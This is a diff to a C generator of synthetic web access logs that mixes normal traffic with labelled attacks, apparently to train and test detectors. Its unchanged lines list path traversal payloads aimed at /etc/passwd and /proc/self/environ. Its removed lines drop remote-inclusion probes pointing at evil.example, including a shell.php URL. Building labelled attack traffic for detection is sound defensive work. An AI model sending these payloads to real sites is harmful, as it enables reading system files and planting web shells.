@@ -1,8 +1,6 @@
 /* Synthetic web access logs (combined format) with ground truth: browsing
- * visitors who load a page and then its assets, the page's script calling
- * one API path with many values, skimmers, crawlers, uptime monitors using
- * curl-like tools and load-balancer health checks every few seconds, normal
- * 404s and the odd 500, a daily rhythm; plus
+ * visitors who load a page and then its assets, crawlers, uptime monitors
+ * using curl-like tools, normal 404s and the odd 500, a daily rhythm; plus
  * labelled attacks: path scanners (a quarter against a soft-404 site that
  * answers every path 200 or redirects it: kind scanner_soft404), SQL injection, XSS, path
  * traversal, command and template injection, CRLF and JNDI probes, crawling
@@ -52,7 +50,7 @@ static const char *const crawlers[] = {
     "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
 };
 static const char *const monitors[] = { "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
-                                        "UptimeRobot/2.0", "kube-probe/1.29", "ELB-HealthChecker/2.0" };
+                                        "UptimeRobot/2.0" };
 static const char *const scanners[] = {
     "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "gobuster/3.6", "DirBuster-1.0-RC1",
     "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
@@ -112,16 +110,6 @@ static const char *const traversal[] = {
     "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
     "file:///etc/hosts",
 };
-/* What crawling scanners also try on every parameter: error probes (a lone
- * quote or bracket to make the application complain, no SQL word at all),
- * absolute paths and remote inclusion (a file or a URL in place of the
- * value, no "../"), NTFS's ::$DATA to read a script's source. The rules of
- * --task rule-score name none of these (a quote is also O'Brien). */
-static const char *const probes[] = {
-    "'", "1'\"", "x')", "\"(", "1`", "'\")(", "%27%22", "1\\'",
-    "/etc/passwd", "/etc/group", "c:\\windows\\system.ini", "/proc/version", "http://evil.example/inc.txt?",
-    "https://x.evil.example/shell.php", "index.php::$DATA", "php://filter/convert.base64-encode/resource=index",
-};
 /* Command injection, template injection, CRLF (header splitting) and JNDI
  * lookups, as tools send them ('%' passes the encoder: some arrive encoded). */
 static const char *const cmdi[] = {
@@ -169,7 +157,6 @@ static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/lo
 typedef struct session {
     double next;          /* time of the session's next request */
     int kind, remaining, assets, client;
-    int xhr;              /* browse: the assets left are the page script's calls to one API path */
     char ip[48];
     const char *ua;
     char page[160];       /* the page being viewed: the referer of its assets */
@@ -347,13 +334,12 @@ static int webscan_probe(gen *g, session *s)
     char uri[600], payload[400];
     if (s->tries-- <= 0) {
         s->tries = 2 + (int)vg_rng_below(&g->rng, 8);
-        s->family = (int)vg_rng_below(&g->rng, 7);
+        s->family = (int)vg_rng_below(&g->rng, 6);
         if (++s->param >= 3 || forms[s->form].names[s->param] == NULL)
             s->param = 0, s->form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
     }
     const char *p = s->family == 0 ? PICK(g, sqli) : s->family == 1 ? PICK(g, xss) : s->family == 2 ? PICK(g, traversal)
-                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : s->family == 5 ? PICK(g, ssti)
-                  : PICK(g, probes);
+                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : PICK(g, ssti);
     encode(g, p, payload, sizeof payload);
     int st = chance(g, 0.75) ? 200 : chance(g, 0.4) ? 500 : chance(g, 0.5) ? 400 : 404;
     unsigned bytes = st == 200 ? 4000 + vg_rng_below(&g->rng, 20000) : 200 + vg_rng_below(&g->rng, 400);
@@ -378,28 +364,6 @@ static int step(gen *g, session *s)
     int st;
     switch (s->kind) {
     case K_BROWSE:
-        if (s->assets > 0 && s->xhr) {
-            /* The page's script: infinite scroll, reviews, suggestions as
-             * one types (one parameter of one path taking many values, as
-             * a fuzzer's would, but plain ones), each call right after the
-             * last. */
-            unsigned id = vg_rng_below(&g->rng, 9000);
-            if (s->xhr == 1) snprintf(uri, sizeof uri, "/api/items?id=%u&fields=name,price", id);
-            else if (s->xhr == 2) snprintf(uri, sizeof uri, "/api/reviews?product=%u&page=%d", id, s->assets);
-            else {  /* a prefix of a word, never cut inside an escape */
-                const char *wd = PICK(g, words);
-                int n = 1 + (int)vg_rng_below(&g->rng, 8), len = (int)strlen(wd);
-                if (n > len) n = len;
-                while (n > 1 && (wd[n - 1] == '%' || wd[n - 2] == '%')) n--;
-                snprintf(uri, sizeof uri, "/search/suggest?q=%.*s", n, wd);
-            }
-            snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
-            emit(g, s, "GET", uri, 200, 80 + vg_rng_below(&g->rng, 3000), ref);
-            if (--s->assets == 0) s->xhr = 0;
-            s->next += uni(g, 0.05, 0.8);
-            if (s->assets == 0) s->next += expo(g, s->pace);
-            return 1;
-        }
         if (s->assets > 0) {
             static const char *const assets[] = { "/static/css/main.4f2a.css", "/static/js/app.91c3.js",
                                                   "/static/js/vendor.77de.js", "/images/logo.svg",
@@ -451,8 +415,6 @@ static int step(gen *g, session *s)
         emit(g, s, "GET", s->page, st, st == 200 ? (unsigned)(300.0 * exp(uni(g, 0, log(80000.0 / 300.0)))) : 512, from);
         /* A skimmer's browser has the assets cached, mostly. */
         s->assets = st == 200 && (s->pace > 5 || chance(g, 0.3)) ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
-        if (st == 200 && chance(g, 0.12))  /* or its script's calls instead */
-            s->xhr = 1 + (int)vg_rng_below(&g->rng, 3), s->assets = 3 + (int)vg_rng_below(&g->rng, 12);
         s->next += uni(g, 0.05, 0.3);
         if (s->assets == 0) s->next += expo(g, s->pace);  /* think time; else it follows the assets */
         return 1;
@@ -470,7 +432,7 @@ static int step(gen *g, session *s)
     case K_MONITOR:
         if (s->remaining-- <= 0) return 0;
         emit(g, s, "GET", s->target ? "/api/status" : "/health", 200, 42, NULL);
-        s->next += s->pace * uni(g, 0.97, 1.03);
+        s->next += uni(g, 29, 31);
         return 1;
     case K_SCANNER:
         if (s->remaining-- <= 0) return 0;
@@ -645,10 +607,6 @@ static void start_session(gen *g, double t)
             s.ua = PICK(g, monitors);
             s.target = chance(g, 0.5);
             s.remaining = 10 + (int)vg_rng_below(&g->rng, 30);
-            /* Half are a load balancer's or an orchestrator's health checks:
-             * the same path every second or few, all day. */
-            s.pace = chance(g, 0.5) ? uni(g, 1, 10) : 30;
-            if (s.pace < 30) s.remaining *= 5;
         }
     }
     if (g->n < MAX_ACTIVE - 1) heap_push(g, &s);
@@ -693,9 +651,9 @@ static vg_status weblog_write(FILE *out, const vg_synth_params *p)
 
 const vg_synth_generator vg_synth_weblog = {
     .format = &vg_format_weblog,
-    .summary = "combined-format web access log: visitors with page assets and script calls, crawlers, "
-               "monitors and health checks, normal 404s; attacks: scanner (some against a soft-404 site), "
-               "sqli, xss, traversal, cmdi, ssti, crlf, jndi, webscan (crawl, then every parameter mutated, "
-               "error probes too), bruteforce (label them with --truth and train with --labels)",
+    .summary = "combined-format web access log: visitors with page assets, crawlers, monitors, normal "
+               "404s; attacks: scanner (some against a soft-404 site), sqli, xss, traversal, cmdi, ssti, "
+               "crlf, jndi, webscan (crawl, then every parameter mutated), bruteforce (label them with "
+               "--truth and train with --labels)",
     .write = weblog_write,
 };
